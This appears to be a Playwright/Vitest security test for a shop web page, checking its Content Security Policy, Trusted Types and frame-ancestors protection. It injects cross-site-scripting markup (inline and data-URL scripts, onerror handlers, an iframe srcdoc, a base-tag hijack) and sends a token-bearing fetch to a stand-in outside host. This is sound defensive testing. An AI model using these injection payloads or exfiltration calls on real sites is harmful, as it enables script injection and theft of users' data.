import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { expect, it, onTestFinished } from 'vitest'
import { FAILED_REQUEST, setReadingStage } from '../stage/stage.ts'

const REFUSED = /Content Security Policy|violates the following|TrustedHTML|TrustedScript|Refused to|frame-ancestors/

const stage = setReadingStage()

const cards = (page: Page) => page.locator('main article')
const robbers = (page: Page) => page.evaluate<string[]>('window.robbers ?? []')
const rob = (robber: string) => `(window.robbers ??= []).push('${robber}')`

/** Markup that an attacker might have injected. */
const FOREIGN = [
  `<script>${rob('a script')}</script>`,
  `<img src="/nothing.png" onerror="${rob('a handler of events')}">`,
  `<script src="data:text/javascript,${encodeURIComponent(rob('a script from data'))}"></script>`,
  `<iframe srcdoc="<script>with (parent) { ${rob('a script in a frame')} }</script>"></iframe>`,
  '<base href="https://elsewhere.example/">',
]

it('the page resists injected markup, runs no text as code, contacts nobody else, stays still under a dialog, shows its pictures alone, and is shown in no frame of another site', async () => {
  stage.forgive(REFUSED)
  stage.forgive(FAILED_REQUEST)
  const { url } = stage.shop.server
  const page = await stage.enter()
  await page.route(`${url}/`, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${FOREIGN.join('')}</body>`)
    await route.fulfill({ response, body })
  })
  await page.goto(url)
  await cards(page).first().waitFor()
  expect(await page.evaluate<string>('document.baseURI')).toBe(`${url}/`)
  const attempts = [
    `document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="(window.robbers ??= []).push(1)">')`,
    `document.body.innerHTML += '<p>robbed</p>'`,
    `document.createElement('script').text = 'window.robbers = [1]'`,
    `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
  ]
  for (const attempt of attempts) {
    const outcome = `(() => { try { ${attempt}; return 'done' } catch { return 'refused' } })()`
    expect(await page.evaluate<string>(outcome), `the attempt ${attempt}`).toBe('refused')
  }
  const refused = `new Promise((resolve) => addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)))`
  const answer = `fetch('https://elsewhere.example/?token=1').then(() => 'sent', (error) => error.name)`
  expect(await page.evaluate<string[]>(`Promise.all([${refused}, ${answer}])`)).toEqual(['connect-src', 'TypeError'])
  expect(await robbers(page)).toEqual([])

  const overflow = () => page.evaluate<string>('getComputedStyle(document.body).overflowY')
  const before = await overflow()
  await cards(page).first().click()
  await page.getByRole('dialog').getByRole('tab').first().waitFor()
  expect(await overflow(), 'under a dialog').toBe('hidden')
  expect(await page.locator('style').count(), 'styles in the page').toBe(0)
  await page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).click()
  await expect.poll(overflow).toBe(before)

  const address = await cards(page).locator('img').first().getAttribute('src')
  await page.goto(url + address)
  // Laid out as browsers do it.
  const { x, width } = (await page.locator('img').boundingBox()) ?? { x: 0, width: 0 }
  expect(x + width / 2, 'the middle of a picture alone').toBeCloseTo(1366 / 2, 0)
  await page.goto(`${url}/no/50%/%ff?sort=newest`)
  await page.getByRole('heading', { level: 1, name: 'Sorry, the page you visited does not exist.' }).waitFor()

  const elsewhere = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${url}/"></iframe>`)
  })
  onTestFinished(() => void elsewhere.close())
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
  expect(await page.frames().at(-1)?.locator('main').count()).toBe(0)
})
